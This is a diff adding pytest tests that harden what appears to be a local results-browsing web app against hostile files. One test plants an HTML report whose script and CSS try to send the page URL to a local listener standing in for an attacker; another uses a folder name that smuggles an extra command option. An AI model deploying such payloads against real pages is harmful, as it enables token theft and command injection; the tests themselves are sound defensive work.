@@ -1003,6 +1003,31 @@ class TestFilesOfOthers:
                 assert "results/one/panel.json: no summary of a panel; delete " in answer
                 assert "4 Run" in answer
 
+    def test_what_never_ends_is_not_read(self, tmp_path, monkeypatch):
+        monkeypatch.chdir(tmp_path)
+        for name in ("pipe", "zeros", "sparse", "numbers"):
+            (tmp_path / "results" / name).mkdir(parents=True)
+        os.mkfifo(tmp_path / "results/pipe/panel.json")
+        (tmp_path / "results/zeros/panel.json").symlink_to("/dev/zero")
+        with (tmp_path / "results/sparse/panel.json").open("wb") as file:
+            file.truncate(2**36)
+        write_summary(SUMMARY, tmp_path / "results/numbers/panel.json")
+        os.mkfifo(tmp_path / "results/numbers/statistics.nc")
+        answer = Page().after("check", {})
+        for name in ("pipe", "zeros", "sparse"):
+            assert f"results/{name}/panel.json: no summary of a panel" in answer
+        assert "Of other settings or another measured file" in answer
+
+    def test_a_folder_of_results_is_one_word_of_a_command(self, tmp_path, monkeypatch):
+        monkeypatch.chdir(tmp_path)
+        name, sent = "x -o y/z", []
+        write_summary(SUMMARY, tmp_path / "results" / name / "panel.json")
+        process = subprocess.CompletedProcess([], 0, "", "")
+        monkeypatch.setattr(commands, "run", lambda command, **_: sent.append(command) or process)
+        for form in commands.EXPORTS:
+            commands.export(name, form, name, plan=None)
+            assert len(sent[-1]) == len([*commands._PROGRAM, *commands.EXPORTS[form][1].split()])
+
     def test_results_of_another_measured_file_or_other_settings(self, tmp_path, monkeypatch):
         monkeypatch.chdir(tmp_path)
         maps(tmp_path / "measured", 8)
@@ -1031,6 +1056,29 @@ class TestFilesOfOthers:
             for action, form in (("set", {}), ("add", {}), ("more", {}), ("check", {"page.pick.x": ""})):
                 status, answer = press(action, form)
                 assert (status, "unexpected, please report it)" in answer) == (400, True)
+
+
+class TestReportsOfOthers:
+    pytestmark = in_browser
+
+    def test_a_report_of_others_learns_no_token(self, tmp_path, browser):
+        """Neither its scripts, nor its style, nor a link that it leaves open before the bar."""
+        (tmp_path / "results").mkdir()
+        with socket.create_server(("127.0.0.1", 0)) as listener, served(tmp_path) as address:
+            listener.settimeout(2)
+            elsewhere = f"http://127.0.0.1:{listener.getsockname()[1]}/"
+            for begin in ("<html><head></head><body>", f"<a href='{elsewhere}?<body>' id='open'>"):
+                (tmp_path / "results/report.html").write_text(
+                    f"{begin}<style>a[href^='/'] {{ background: url({elsewhere}) }}</style><script>"
+                    f"new Image().src = fetch('{elsewhere}?' + location.href), location = '{elsewhere}' + "
+                    "location.pathname</script>"
+                )
+                browser.open(f"{address}results/report.html")
+                browser.wait("document.querySelector('#steps a')")
+                link = browser.evaluate("document.querySelector('#open')?.href ?? ''")
+                assert urllib.parse.urlsplit(address).path not in urllib.parse.unquote(link)
+                with pytest.raises(TimeoutError):
+                    listener.accept()
 
 
 def in_time(condition, seconds=60):
